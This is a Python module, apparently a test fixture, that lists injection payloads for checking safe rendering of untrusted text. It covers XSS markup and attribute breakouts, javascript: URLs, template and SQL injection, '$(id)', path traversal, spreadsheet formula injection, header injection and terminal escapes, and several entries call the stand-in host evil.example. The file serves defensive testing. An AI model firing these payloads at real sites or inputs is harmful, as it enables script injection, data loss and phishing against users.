"""Texts that try to be more than text: markup, scripts, styles, URLs, terminals, files, headers.

Each script that would run calls `alert` or sets `window.ran`.
"""

_HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
)
_TAGS = ("img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "marquee")

MARKUP = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>window.ran=1</script>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>Sign in</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<xss style=animation-name:x onanimationend=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>*{display:none}</style>",
    "<plaintext>",
    *(f"<{tag} {handler}=alert(1)>" for tag, handler in zip(_TAGS, _HANDLERS, strict=True)),
)
ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><img src=x onerror=alert(1)>',
    "x` onclick=`alert(1)",
    '" style="position:fixed;inset:0',
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
)
URLS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://evil.example\\@good.example/",
    "http://[::1",
    "/../../etc/passwd",
    "%2e%2e%2f%00",
)
CODE = (
    "';alert(1);//",
    '";alert(1);//',
    "${alert(1)}",
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "*/alert(1)/*",
    "__proto__",
    "constructor",
    '{"__proto__": {"ran": true}}',
    "]]>",
    "'; DROP TABLE jobs; --",
    "$(id)",
    "expression(alert(1))",
    "}*{background:url(//evil.example)",
    "@import '//evil.example';",
)
MARKDOWN = ("[x](javascript:alert(1))", '![x](x"onerror="alert(1))', "<javascript:alert(1)>")
FORMULAS = ('=HYPERLINK("//evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)")
CONTROLS = (
    "\u202egnp.exe",
    "\u2066\u2067x\u2069",
    "a\u200bb\ufeff",
    "z\u0335\u0336a\u0337lgo",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\x1b]0;title\x07",
    "\x07\x08\x7f\x9b31m",
    "a\r\nSet-Cookie: ran=1\r\n\r\n<script>alert(1)</script>",
    "\u2028alert(1)\u2029",
    "\x00<script>alert(1)</script>",
    "\ufffe\uffff\U0010ffff",
)
PAYLOADS = (*MARKUP, *ATTRIBUTES, *URLS, *CODE, *MARKDOWN, *FORMULAS, *CONTROLS)
# What only text shows as it is.
SHOWN_AS_IT_IS = (*MARKUP, *ATTRIBUTES[:5], *MARKDOWN)
